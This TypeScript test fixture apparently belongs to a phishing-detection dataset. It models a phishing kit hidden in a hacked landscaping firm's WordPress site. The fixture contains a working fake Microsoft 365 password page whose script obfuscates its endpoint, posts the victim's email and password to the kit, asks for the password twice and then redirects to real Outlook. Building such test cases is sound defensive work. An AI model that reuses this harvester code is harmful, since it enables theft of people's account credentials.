import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, msCss, msLogo, jsRoute, wpPage, hexRev } from '../parts/t-kit.js';

// Reported by employees: phishing kit dropped into a small business's WordPress — blind split.

const host = 'pinecrestlandscaping.net';
const kit = '/wp-includes/css/dist/block-editor/o365/';

export const entries: Entry[] = [
  {
    id: 't-ph-wp-compromised-m365',
    label: 'phishing',
    kind: 'compromised-site-kit',
    url: `https://${host}${kit}index.php?rand=13InboxLightaspxn.1774256418&fid.4.1252899642&fid=1&fav.1&rand.13InboxLight.aspxn.1774256418&email=l.harper@hartwell-eng.com`,
    routes: {
      [`${host}/`]: htmlRoute(wpPage({ host, biz: 'Pinecrest Landscaping', tagline: 'Design &middot; Install &middot; Maintain', title: 'Home', color: '#3b6e3b', content: '<h1>Outdoor spaces you will love</h1><p>Serving the Front Range since 2004. Free estimates.</p>', phone: '(720) 555-0164', address: 'Littleton, CO' })),
      [`${host}${kit}index.php`]: htmlRoute(doc(
        'Sign in to your account',
        `<style>${msCss}</style>`,
        `<div class="card"><div>${msLogo}</div><div class="idchip" id="chip"></div><h1 id="hd">Enter password</h1>
<div class="err" id="err"></div><input type="password" id="pw" placeholder="Password">
<p class="small"><a href="#">Forgot my password</a></p><p class="small"><a href="#">Sign in with another account</a></p>
<div class="row"><button class="btn" id="sb">Sign in</button></div></div>
<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
<script src="${kit}js/jquery-ms.js"></script>`,
      )),
      [`${host}${kit}js/jquery-ms.js`]: jsRoute(`(function(){var q=new URLSearchParams(location.search),em=q.get('email')||'';document.getElementById('chip').textContent=em;
function d(h){return h.match(/../g).map(function(x){return String.fromCharCode(parseInt(x,16))}).reverse().join('')}
var ep=d('${hexRev('/wp-includes/css/dist/block-editor/o365/next.php')}'),c=0;
document.getElementById('sb').onclick=function(){var p=document.getElementById('pw').value;if(!p){document.getElementById('err').textContent='Please enter your password.';return}c++;
var x=new XMLHttpRequest();x.open('POST',ep,true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('email='+encodeURIComponent(em)+'&password='+encodeURIComponent(p)+'&detail=o365');
document.getElementById('pw').value='';if(c>=2){location.replace('https://outlook.office365.com/owa/')}else{document.getElementById('err').textContent='Your account or password is incorrect. If you don\\'t remember your password, reset it now.'}};})();`),
    },
  },
];
